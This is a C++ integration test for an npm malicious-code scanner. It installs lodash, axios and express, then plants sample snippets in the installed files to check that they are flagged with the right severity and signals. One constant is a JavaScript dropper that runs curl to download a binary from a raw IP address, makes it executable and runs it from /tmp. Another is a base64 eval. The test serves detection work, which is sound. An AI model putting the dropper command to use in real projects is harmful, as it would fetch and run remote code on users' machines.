// npm.suspicious-code on real packages: lodash, axios and express installed
// from the registry npm is configured with (install scripts not run) into a
// temp project are clean (nothing at or above high); then an inert dropper
// snippet, written here and never run, is appended to one installed file and
// dropped as a new file into another package: both are flagged with their
// signals, path and owning package.
#include <gtest/gtest.h>

#include <filesystem>
#include <fstream>
#include <set>

#include "harness.h"

namespace deminer::it {
namespace {

namespace fs = std::filesystem;

// The seed 001 kind of dropper (inert text: never run; the address is not
// contacted by the scan).
constexpr std::string_view kDropper = R"JS(
;(function () {
  const { exec } = require("child_process");
  exec("curl -sL -o /tmp/dbus_daemon http://45.137.21.9:8080/d && chmod 755 /tmp/dbus_daemon && /tmp/dbus_daemon", function () {});
})();
)JS";

// A second kind: base64 decoded and evaluated.
constexpr std::string_view kEvalBase64 = R"JS(
'use strict';
module.exports = function track() {};
eval(Buffer.from("Y29uc29sZS5sb2coImluZXJ0IHRlc3Qgc3RyaW5nIik7", "base64").toString());
)JS";

bool AtLeastHigh(const nlohmann::json& f) {
  return f["severity"] == "high" || f["severity"] == "critical";
}

std::set<std::string> SignalIds(const nlohmann::json& f) {
  std::set<std::string> out;
  for (const auto& s : f["evidence"]["signals"]) out.insert(s["id"].get<std::string>());
  return out;
}

std::string VersionOf(const std::string& package_json) {
  std::ifstream in(package_json);
  const auto j = nlohmann::json::parse(in, nullptr, false);
  return j.is_object() && j.contains("version") ? j["version"].get<std::string>() : "";
}

TEST(NpmCodeTest, RealPackagesCleanThenPlantedDroppersFlagged) {
  const CommandResult registry = RunCommand({"npm", "config", "get", "registry"});
  if (registry.exit_code != 0) GTEST_SKIP() << "npm is not available: " << registry.err;
  TempDir dir;
  const std::string project = dir / "app";
  fs::create_directories(project);
  std::ofstream(project + "/package.json")
      << R"({"name":"deminer-npm-code-test","version":"1.0.0","private":true})";
  const CommandResult install =
      RunCommand({"npm", "install", "--prefix", project, "--ignore-scripts", "--no-audit",
                  "--no-fund", "--loglevel=error", "lodash", "axios", "express"});
  if (install.exit_code != 0) {
    GTEST_SKIP() << "npm install from the configured registry failed (offline?): " << install.err;
  }
  const std::string nm = project + "/node_modules";
  ASSERT_TRUE(fs::exists(nm + "/lodash/lodash.js"));
  // --root EMPTY: this project alone, not those of the host's node processes.
  TempDir empty;

  // Clean: no finding at or above high.
  int rc = 0;
  const auto clean =
      ScanJson({"--only", "npm", "--root", empty.path(), "--fail-on", "none", project}, {}, &rc);
  ASSERT_TRUE(clean.contains("findings")) << clean.dump();
  for (const auto& f : FindingsOf(clean, "npm.suspicious-code")) {
    EXPECT_FALSE(AtLeastHigh(f)) << f.dump(2);
  }

  // Plant: appended to an installed file, and a new file in another package.
  const std::string modified = nm + "/lodash/lodash.js";
  const std::string added = nm + "/axios/lib/helpers/telemetry.js";
  std::ofstream(modified, std::ios::app) << kDropper;
  std::ofstream(added) << kEvalBase64;
  const std::string lodash = "lodash@" + VersionOf(nm + "/lodash/package.json");
  const std::string axios = "axios@" + VersionOf(nm + "/axios/package.json");

  const auto planted =
      ScanJson({"--only", "npm", "--root", empty.path(), "--fail-on", "none", project}, {}, &rc);
  const auto in_lodash = FindingsOf(planted, "npm.suspicious-code", modified);
  ASSERT_EQ(in_lodash.size(), 1U) << planted.dump(2);
  const auto& a = in_lodash[0];
  EXPECT_EQ(a["severity"], "critical");
  EXPECT_EQ(a["path"], modified);
  EXPECT_GT(a["line"].get<int>(), 10000);  // appended after lodash's 17k lines
  EXPECT_EQ(a["evidence"]["package"], lodash);
  EXPECT_EQ(a["evidence"]["area"], "node_modules");
  EXPECT_EQ(a["evidence"]["sha256"].get<std::string>().size(), 64U);
  const auto ids = SignalIds(a);
  for (const char* id : {"dropper-chain", "child-process", "download-command", "temp-path",
                         "chmod-exec", "miner-name", "public-ip"}) {
    EXPECT_TRUE(ids.contains(id)) << id << "\n" << a.dump(2);
  }

  const auto in_axios = FindingsOf(planted, "npm.suspicious-code", added);
  ASSERT_EQ(in_axios.size(), 1U) << planted.dump(2);
  const auto& b = in_axios[0];
  EXPECT_EQ(b["severity"], "high");
  EXPECT_EQ(b["path"], added);
  EXPECT_EQ(b["line"], 4);
  EXPECT_EQ(b["evidence"]["package"], axios);
  EXPECT_TRUE(SignalIds(b).contains("exec-decoded")) << b.dump(2);

  // Nothing else became high.
  for (const auto& f : FindingsOf(planted, "npm.suspicious-code")) {
    if (f["path"] != modified && f["path"] != added) {
      EXPECT_FALSE(AtLeastHigh(f)) << f.dump(2);
    }
  }
}

// A build dir given directly as the PATH, and a single .js file.
TEST(NpmCodeTest, BundleDirAndSingleFilePaths) {
  TempDir dir;
  const std::string dist = dir / "site/dist";
  fs::create_directories(dist + "/assets");
  std::ofstream(dist + "/assets/app.js") << "console.log('ok');\n" << kDropper;
  std::ofstream(dist + "/assets/app.js.map") << kDropper;  // source maps are not read
  std::ofstream(dist + "/clean.js")
      << "export const x = () => fetch('/api').then(r => r.json());\n";
  const std::string single = dir / "loose.js";
  std::ofstream(single) << kEvalBase64;

  TempDir empty;
  const auto scan =
      ScanJson({"--only", "npm", "--root", empty.path(), "--fail-on", "none", dist, single});
  const auto app = FindingsOf(scan, "npm.suspicious-code", dist + "/assets/app.js");
  ASSERT_EQ(app.size(), 1U) << scan.dump(2);
  EXPECT_EQ(app[0]["evidence"]["area"], "bundle");
  EXPECT_EQ(app[0]["line"], 5);  // console.log, the blank line, (function, require, exec
  EXPECT_TRUE(FindingsOf(scan, "npm.suspicious-code", ".map").empty());
  EXPECT_TRUE(FindingsOf(scan, "npm.suspicious-code", "clean.js").empty());
  EXPECT_EQ(FindingsOf(scan, "npm.suspicious-code", single).size(), 1U) << scan.dump(2);
}

}  // namespace
}  // namespace deminer::it
